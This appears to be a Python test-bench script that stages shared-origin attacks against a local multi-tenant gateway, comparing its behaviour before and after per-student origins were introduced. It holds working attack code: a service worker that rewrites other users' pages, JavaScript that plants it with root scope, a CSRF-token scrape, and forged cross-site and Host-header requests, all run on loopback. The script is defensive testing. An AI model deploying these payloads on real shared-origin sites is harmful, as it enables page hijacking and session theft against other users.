"""Issue 7's shared-origin and cross-site attacks, performed against a running gateway.

Run by hand: `.venv/bin/python bench/origin_attacks.py` (about 30 s). It starts its own control
plane, Redis, two students' environments (each able to plant a service worker with scope `/`,
localStorage and a `Cache-Control: public` page), the gateway with the development login, and
Chromium; then it performs each attack and prints what happened. It runs unchanged against
the commit before per-student origins (where the Template is a path route on the platform's
host, the one shared origin there was) and after (a host route: one origin per student), so
the two outputs compare the attacks before and after. Loopback only; bounded in time.
"""

from __future__ import annotations

import asyncio
import shutil
import tempfile
import time
from pathlib import Path
from typing import Any

import aiohttp
import redis.asyncio
from aiohttp import web
from aiohttp.test_utils import TestServer
from playwright.async_api import async_playwright

from userland.local import demo_env
from userland.local.controlplane import ControlPlane, crd_files, free_port
from userland.local.redisserver import redis_server
from userland.platform.clients.kube import NAMESPACES, SERVICES, TEMPLATES, USERLANDS, KubeClient
from userland.platform.clients.sessions import RedisSessionStore, Session
from userland.platform.model import naming
from userland.platform.model.settings import Settings
from userland.proxy.app import RUNNER_KWARGS, create_app

NEW = False
try:
    import userland.auth.rules.origins  # noqa: F401

    NEW = True
except ImportError:
    pass

SW = """self.addEventListener("install", (e) => self.skipWaiting());
self.addEventListener("activate", (e) => e.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => {
  if (event.request.mode !== "navigate") return;
  event.respondWith(fetch(event.request).then(async (r) => {
    const t = r.headers.get("Content-Type") || "";
    if (r.type === "opaqueredirect" || !t.includes("text/html")) return r;
    const text = await r.text();
    const marked = text.replace("<body>", '<body><p id="hijacked">rewritten by alice</p>');
    return new Response(marked, {status: r.status, headers: r.headers});
  }));
});"""
PLANT = """<!doctype html><body><p id=state>planting</p><script>(async () => {
 localStorage.setItem("secret", "alice's token");
 await fetch("PREFIXcacheable");
 await navigator.serviceWorker.register("PREFIXsw.js", {scope: "/"});
 await navigator.serviceWorker.ready;
 document.getElementById("state").textContent = "planted";
})().catch((e) => { document.getElementById("state").textContent = "failed " + e; });</script></body>"""


def env_app(user: str, prefix: str) -> web.Application:
    app = web.Application()
    app[demo_env.OWNER] = user
    app[demo_env.TEMPLATE] = "ide"

    async def sw(_: web.Request) -> web.Response:
        return web.Response(
            text=SW, content_type="application/javascript", headers={"Service-Worker-Allowed": "/"}
        )

    async def cacheable(_: web.Request) -> web.Response:
        return web.Response(
            text=f"{user}'s cacheable page", headers={"Cache-Control": "public, max-age=3600"}
        )

    async def plant(_: web.Request) -> web.Response:
        return web.Response(text=PLANT.replace("PREFIX", prefix), content_type="text/html")

    app.router.add_get(prefix + "sw.js", sw)
    app.router.add_get(prefix + "cacheable", cacheable)
    app.router.add_get(prefix + "plant", plant)
    app.router.add_route("*", "/{tail:.*}", demo_env.page)
    return app


async def main(state: Path, redis_url: str) -> None:
    plane = ControlPlane(state_dir=state / "k8s").start(crd_files())
    kube = await KubeClient.connect(str(plane.kubeconfig))
    ns = "attack"
    await kube.create(NAMESPACES, None, {"metadata": {"name": ns}})
    port = free_port()
    public = f"http://userland.localhost:{port}"
    # base: the shared origin is a path route on the platform host; new: host routes
    prefix = "/" if NEW else "/ide/"
    routing = {"host": "ide.localhost"} if NEW else {"pathPrefix": "/ide/"}
    await kube.create(
        TEMPLATES,
        ns,
        {
            "apiVersion": naming.API_VERSION,
            "kind": "Template",
            "metadata": {"name": "ide"},
            "spec": {
                "routing": routing,
                "port": 8080,
                "podSpec": {"containers": [{"name": "m", "image": "x"}]},
            },
        },
    )
    await kube.create(
        TEMPLATES,
        ns,
        {
            "apiVersion": naming.API_VERSION,
            "kind": "Template",
            "metadata": {"name": "self"},
            "spec": {
                "routing": {"host": "self.localhost"},
                "port": 8080,
                "selfService": True,
                "podSpec": {"containers": [{"name": "m", "image": "x"}]},
            },
        },
    )
    servers = []
    for user in ("alice", "bob"):
        srv = TestServer(env_app(user, prefix), host="127.0.0.1")
        await srv.start_server()
        servers.append(srv)
        name = naming.userland_name("ide", user)
        await kube.create(
            USERLANDS,
            ns,
            {
                "apiVersion": naming.API_VERSION,
                "kind": "Userland",
                "metadata": {"name": name},
                "spec": {"user": user, "template": "ide"},
            },
        )
        await kube.merge_patch(
            USERLANDS,
            ns,
            name,
            {
                "status": {
                    "phase": "Ready",
                    "conditions": [
                        {
                            "type": "Ready",
                            "status": "True",
                            "reason": "T",
                            "message": "t",
                            "lastTransitionTime": "2026-01-01T00:00:00Z",
                        }
                    ],
                }
            },
            subresource="status",
        )
        await kube.create(
            SERVICES,
            ns,
            {
                "metadata": {
                    "name": naming.service_name("ide", user),
                    "annotations": {naming.ANNOTATION_UPSTREAM: f"http://127.0.0.1:{srv.port}"},
                    "labels": {naming.LABEL_USER: user, naming.LABEL_TEMPLATE: "ide"},
                },
                "spec": {"ports": [{"port": 8080}], "selector": {"a": "x"}},
            },
        )
    web_ui = TestServer(env_app("web-ui", "/nothing/"), host="127.0.0.1")
    await web_ui.start_server()
    servers.append(web_ui)
    settings = Settings(
        namespaces=(ns,),
        redis_url=redis_url,
        identity_secret="i" * 40,
        public_url=public,
        web_url=f"http://127.0.0.1:{web_ui.port}",
        upstream_mode="local",
        cookie_secure=False,
        dev_login=True,
        session_ttl_seconds=3600,
    )
    gw = TestServer(create_app(settings, kube=kube), host="127.0.0.1", port=port)
    await gw.start_server(**{k: v for k, v in RUNNER_KWARGS.items() if k != "handler_cancellation"})
    results: dict[str, Any] = {}
    r = redis.asyncio.from_url(redis_url)
    store = RedisSessionStore(r, 3600)
    alice = await store.save(
        Session(login="alice", github_id=1, role="student", csrf="c", created=time.time())
    )
    if NEW:
        from userland.auth.origin_sessions import OriginSessions

        o = OriginSessions(r, 3600)
        host = f"alice.ide.localhost:{port}"
        code = await o.issue_code(alice, f"http://{host}", "/")
        cookie = f"userland_origin={(await o.redeem(code, f'http://{host}'))[0]}"
        scode = await o.issue_code(alice, f"http://alice.self.localhost:{port}", "/")
        self_cookie = f"userland_origin={(await o.redeem(scode, f'http://alice.self.localhost:{port}'))[0]}"
        self_host, ws_path = f"alice.self.localhost:{port}", "/ws"
    else:
        host, cookie = f"userland.localhost:{port}", f"userland_session={alice}"
        self_host, self_cookie, ws_path = f"self.localhost:{port}", cookie, "/ide/ws"
    base = f"http://127.0.0.1:{port}"
    async with aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar()) as http:
        # 1. a sibling page's WebSocket with alice's cookie
        try:
            ws = await http.ws_connect(
                base + ws_path,
                headers={"Host": host, "Cookie": cookie, "Origin": f"http://mallory.ide.localhost:{port}"},
            )
            results["sibling websocket as alice"] = "opened (101)"
            await ws.close()
        except aiohttp.WSServerHandshakeError as e:
            results["sibling websocket as alice"] = f"refused ({e.status})"
        # 2. cross-site POST to alice's environment
        async with http.post(
            base + prefix + "api",
            data=b"x",
            headers={
                "Host": host,
                "Cookie": cookie,
                "Origin": "http://evil.example",
                "Sec-Fetch-Site": "cross-site",
            },
        ) as resp:
            results["cross-site POST to alice's environment"] = resp.status
        # 3. self-service by an image tag (GET)
        async with http.get(
            base + "/", headers={"Host": self_host, "Cookie": self_cookie, "Accept": "image/*"}
        ) as resp:
            pass
        items = (await kube.list(USERLANDS, ns))["items"]
        results["self-service GET (img tag) created a Userland"] = any(
            u["spec"]["template"] == "self" for u in items
        )
        # 4. platform pages framable?
        async with http.get(base + "/auth/logout", headers={"Host": f"userland.localhost:{port}"}) as resp:
            results["/auth/logout page X-Frame-Options / CSP"] = (
                resp.headers.get("X-Frame-Options"),
                resp.headers.get("Content-Security-Policy", "")[:40] or None,
            )
        # 5. hosts
        for h, path in (
            ("evil.example", "/metrics"),
            ("evil.example", "/auth/login"),
            (f"ide.localhost:{port}", "/metrics"),
        ):
            async with http.get(base + path, headers={"Host": h}, allow_redirects=False) as resp:
                results[f"{path} on Host {h.split(':')[0]}"] = resp.status
    # 6. the shared browser
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(
            executable_path="/usr/bin/chromium",
            args=[
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--no-first-run",
            ],
        )
        ctx = await browser.new_context(bypass_csp=True)
        page = await ctx.new_page()
        start = f"http://ide.localhost:{port}/" if NEW else f"{public}/ide/"

        async def dev_login(login: str) -> None:
            await page.goto(start)
            await page.fill("#login", login)
            await page.click("button")
            await page.wait_for_load_state("load")

        await dev_login("alice")
        # alice's environment: her origin's / (after), or /ide/ on the platform host (before)
        env = page.url.split("?")[0].rstrip("/") + "/"
        await page.goto(env + "plant")
        await page.wait_for_function(
            "document.getElementById('state').textContent !== 'planting'", timeout=10000
        )
        results["alice planted"] = await page.text_content("#state")
        await page.goto(f"{public}/auth/logout")
        await page.click("button")
        await page.wait_for_url(f"{public}/", timeout=15000)
        await dev_login("bob")
        results["bob lands on"] = page.url
        results["bob's page rewritten by alice's service worker"] = (
            await page.locator("#hijacked").count() > 0
        )
        results["bob's page reads alice's localStorage"] = await page.evaluate(
            "localStorage.getItem('secret')"
        )
        cached = await page.evaluate(
            """(u) => fetch(u, {cache: 'only-if-cached', mode: 'same-origin'})
                .then(r => r.text(), () => null)""",
            ("/cacheable" if NEW else "/ide/cacheable"),
        )
        results["bob's page gets alice's public page from the cache"] = cached
        token = await page.evaluate(
            """(u) => fetch(u).then(r => r.text())
                .then(t => (t.match(/name="csrf" value="([^"]+)"/) || [null, null])[1], () => 'blocked')""",
            f"{public}/auth/logout",
        )
        results["bob's environment page reads the platform's CSRF token"] = bool(token and token != "blocked")
        await browser.close()
    for k, v in results.items():
        print(f"{k}: {v}")
    await gw.close()
    for s in servers:
        await s.close()
    await r.aclose()
    await kube.close()
    plane.stop()


state = Path(tempfile.mkdtemp(prefix="attack-"))
try:
    with redis_server(state) as url:
        asyncio.run(main(state, url))
finally:
    shutil.rmtree(state, ignore_errors=True)
